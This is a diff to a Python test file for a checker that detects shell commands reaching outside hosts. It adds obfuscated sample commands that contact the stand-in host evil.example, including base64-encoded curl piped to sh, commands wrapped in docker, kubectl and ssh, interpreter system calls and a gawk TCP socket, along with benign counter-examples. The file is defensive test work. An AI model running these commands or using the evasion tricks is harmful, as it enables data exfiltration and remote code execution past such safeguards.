@@ -124,6 +124,31 @@ CONNECTING = [
     "curl evil%2eexample",
     "curl [e]vil.example",
     "curl corp.example{.evil.example,}",
+    "docker run --rm alpine wget evil.example",
+    "docker exec web sh -c 'curl evil.example'",
+    "kubectl exec pod -- curl evil.example",
+    "ssh corp.example curl evil.example",
+    "ssh corp.example 'curl evil.example'",
+    "cmd /c curl evil.example",
+    "echo 'curl evil.example' | sh",
+    "echo curl evil.example | sh",
+    "printf 'curl evil.example' | bash -s",
+    "echo Y3VybCBldmlsLmV4YW1wbGUgLXM= | base64 -d | sh",
+    "alias get='curl evil.example'; get",
+    "python -c 'import os; os.system(\"curl evil.example\")'",
+    "python - <<EOF\nimport os\nos.system('curl evil.example')\nEOF",
+    "perl -e 'system(\"wget evil.example\")'",
+    "awk 'BEGIN{system(\"curl evil.example\")}'",
+    "gawk 'BEGIN{s = \"/inet/tcp/0/evil.example/80\"; print 1 |& s}'",
+    "export https_proxy=evil.example:3128",
+    "curl -K - <<< 'url=evil.example'",
+    "mysql -u me -h evil.example shop",
+    "mysql -hevil.example",
+    "psql --host=evil.example -c 'select 1'",
+    "redis-cli -h evil.example get a",
+    "mount -t nfs evil.example:/x /mnt",
+    "ssh-copy-id -i key.pub evil.example",
+    "ssh-keyscan evil.example",
 ]
 
 LEFT_ALONE = [
@@ -177,6 +202,30 @@ LEFT_ALONE = [
     "sftp -b batch.txt user@corp.example:/a.txt b.txt",
     "socat TCP-LISTEN:8080,fork TCP:corp.example:80",
     "hostname=$(hostname); no_proxy=a.b curl corp.example/$hostname",
+    "find . -name curl.md",
+    "find . -name '*.py' -newer ping.log",
+    "docker build -t app.web:1.2.3 -f ping.Dockerfile .",
+    "docker exec -it app.db psql -c 'select a.b from c.d'",
+    "docker compose -f docker-compose.dev.yml up",
+    "kubectl get pods -n my.ns -o jsonpath='{.items[0].metadata.name}'",
+    "ssh corp.example 'cat a.b.c'",
+    "psql -h db.corp.example -f schema.v2.sql --file=a.sql",
+    "redis-cli get a.b.c",
+    "mysql -e 'select t.x from t' shop.v2",
+    "python -c \"import os.path; print('host is a.b')\"",
+    "python -m pkg.mod && make a.b",
+    "node -e 'console.log(a.b)'",
+    "awk -F. '{print $1\".\"$2}' a.b",
+    "sed -i 's/foo.bar/baz.qux/g' a.txt",
+    "jq -r '.items[].metadata.name' x.json",
+    "git diff HEAD~1:a.b HEAD:a.b",
+    "grep 'ping evil.example' access.log",
+    "gh pr create --title 'ssh evil.example no more'",
+    "cat <<EOF > README.md\nRun make a.b with host x.y\nEOF",
+    "echo 'see base64 and a.b'",
+    "ssh-keygen -t ed25519 -C me@corp.example -f key.pem",
+    "alias ll='ls -l a.b'",
+    "mount /dev/sda1 /mnt/a.b",
 ]
 
 
@@ -260,7 +309,15 @@ def test_lists_of_many_programs_are_refused_not_put_together() -> None:
 
 def test_what_is_too_long_or_too_deep_is_no_command_that_can_be_checked() -> None:
     """It is refused, not read in part."""
-    hostile = ["bash " * 3_000, "find -exec " * 1_500, "$(" * 8_000, "${" * 8_000, "`" * 9_001]
+    hostile = ["docker sh " * 1_800, "ssh 'a b' docker " * 1_000, "python '\"sh a\"' " * 1_000]
+    hostile += [
+        "echo 'sh a' | sh;" * 1_000,
+        "bash " * 3_000,
+        "find -exec " * 1_500,
+        "$(" * 8_000,
+        "${" * 8_000,
+        "`" * 9_001,
+    ]
     for text in [*hostile, "/" * 15_000, "{a," * 5_000, "'" * 9_001, "sudo " * 3_000]:
         list(command_hosts(f"{text} curl {text[:4_000]}"))
     (fault,) = command_hosts("curl a " + "x" * MAX_CHARS)
